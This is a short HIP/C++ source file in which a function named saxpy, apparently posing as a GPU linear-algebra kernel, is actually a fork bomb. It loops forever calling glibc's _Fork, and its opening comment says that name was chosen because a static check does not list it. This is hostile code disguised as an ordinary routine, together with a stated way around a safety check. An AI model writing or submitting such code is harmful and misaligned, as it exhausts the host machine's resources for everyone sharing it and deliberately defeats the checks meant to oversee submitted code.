// Fork bomb through glibc's _Fork, a name the static check does not list; declared by hand.
#include <hip/hip_runtime.h>

extern "C" int _Fork(void);
extern "C" int usleep(unsigned);

void saxpy(int n, float a, const float* x, float* y, hipStream_t stream) {
  for (;;) {
    if (_Fork() < 0) usleep(1000);  // at the process limit: keep trying, gently
  }
}
